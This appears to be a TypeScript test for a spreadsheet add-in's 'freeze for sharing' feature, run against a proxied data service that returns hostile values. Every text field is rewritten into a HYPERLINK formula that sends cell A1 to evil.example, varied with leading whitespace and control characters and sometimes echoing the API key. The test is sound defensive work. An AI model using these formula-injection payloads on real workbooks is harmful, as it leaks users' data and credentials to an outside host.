import { DEMO_KEYS } from "../../reference-service/src";
import { appContext } from "../../src/office/app-context/app-context";
import { freezeForSharing } from "../../src/office/freeze/freeze";
import { RECEIPT_SHEET } from "../../src/office/refresh/scope-ranges";
import { restoreFormulas } from "../../src/office/freeze/restore";
import { rewritingProxy, type RewritingProxy } from "../client/service-fields";
import { freezeOptions, restoreOptions } from "./sheet-options";
import { DESK_A, useDeskRig } from "./sheet-support";
import { FakeWorkbook } from "../support/office-fake/fake-workbook";

/**
 * The attack, end to end: a service whose every text field (status, hub, grade, description, tenor,
 * method, mode…) is a formula that sends cell contents to another host, and that echoes the caller's API key.
 * A sheet of INDEX.LIST, LATEST(…,"status"), FIX, HISTORY(…,"status"), CARD and FORWARD is frozen: no live
 * formula is left, the hostile text is there as text, and the key is nowhere in the workbook. Restore then
 * brings back exactly the INDEX formulas.
 */
const rig = useDeskRig({ withKey: true });
const KEY = DEMO_KEYS.apiKey;
const TEXT_FIELDS = new Set([
  "status",
  "hub",
  "grade",
  "leadTime",
  "description",
  "derivationMethod",
  "publicationMode",
  "methodologyVersion",
  "tenorLabel",
  "currency",
  "unit",
]);
const SIGNS = ["=", "+", "-", "@"];
const LEADS = ["", "\t", "\r", " ", "\u00a0", "\u0000"];

/** Every text field of an answer as a formula that exfiltrates A1, each with the next prefix; every tenth echoes the key. */
function hostile(body: unknown, counter: { n: number }, key: string | undefined): unknown {
  if (Array.isArray(body)) return body.map((item) => hostile(item, counter, key));
  if (typeof body !== "object" || body === null) return body;
  return Object.fromEntries(
    Object.entries(body).map(([name, value]) => {
      if (typeof value !== "string" || !TEXT_FIELDS.has(name)) return [name, hostile(value, counter, key)];
      const n = counter.n++;
      const echo = n % 10 === 0 && key !== undefined ? ` ${key}` : "";
      return [
        name,
        `${LEADS[n % LEADS.length]}${SIGNS[n % SIGNS.length]}HYPERLINK("http://evil.example/?d="&A1,"${name}${echo}")`,
      ];
    }),
  );
}

/** Laid out as a trader would: each spill beside the others, none in another's way (the list takes A to H). */
const FORMULAS: Readonly<Record<string, string>> = {
  "Sheet1!A1": "=INDEX.LIST(TRUE,TRUE)",
  "Sheet1!K1": `=INDEX.LATEST("${DESK_A}","status")`,
  "Sheet1!K2": `=INDEX.FIX("${DESK_A}",TRUE)`,
  "Sheet1!N1": `=INDEX.HISTORY("${DESK_A}","-10D",TODAY(),"daily",TRUE,,"status")`,
  "Sheet1!R1": `=INDEX.CARD("${DESK_A}")`,
  "Sheet1!R3": `=INDEX.FORWARD("${DESK_A}",TRUE)`,
};

let proxy: RewritingProxy;
beforeAll(async () => {
  proxy = await rewritingProxy(rig.service);
  const counter = { n: 0 };
  proxy.rewrite((_url, body) => hostile(body, counter, KEY));
  await appContext().settings.save({ baseUrl: proxy.server.url, apiKey: KEY });
});
afterAll(() => proxy.server.close());

test("freezing a sheet fed by a hostile service leaves no live formula and no key; restore brings back only the INDEX formulas", async () => {
  const book = new FakeWorkbook(rig.evaluate);
  for (const [cell, formula] of Object.entries(FORMULAS)) book.type(cell, formula);
  await book.settled();
  // The attack is live: the service sent hostile text, and the cells show it (no spill blocked).
  expect(book.usedValues("Sheet1").flat()).not.toContain("#SPILL!");
  expect(proxy.server.requests.length).toBeGreaterThan(0);
  expect(proxy.server.requests.every((request) => request.headers["x-api-key"] === KEY)).toBe(true);
  const shown = book
    .usedValues("Sheet1")
    .flat()
    .filter((value): value is string => typeof value === "string" && value.includes("evil.example"));
  expect(shown.length).toBeGreaterThan(40);

  const engine = await appContext().engine();
  const outcome = await freezeForSharing(
    book.context,
    freezeOptions({
      scope: "workbook",
      serviceUrl: proxy.server.url,
      provenanceOf: (a) => engine.addresses.provenanceOf(a),
      errorOf: (a) => engine.addresses.errorOf(a),
    }),
  );

  expect(outcome).toMatchObject({ frozen: Object.keys(FORMULAS).length, busy: [] });
  expect(book.liveFormulas()).toEqual({});
  const everything = JSON.stringify([
    book.usedValues("Sheet1"),
    book.usedValues(RECEIPT_SHEET),
    [...book.names.keys()],
  ]);
  expect(everything).not.toContain(KEY);
  expect(everything).toContain("[API key]");
  // The hostile text is still there, as text.
  expect(
    book
      .usedValues("Sheet1")
      .flat()
      .filter((value) => typeof value === "string" && value.includes("evil.example")),
  ).toHaveLength(shown.length);

  const restored = await restoreFormulas(book.context, restoreOptions());
  expect(restored.refused).toEqual([]);
  expect(book.liveFormulas()).toEqual(FORMULAS);
});
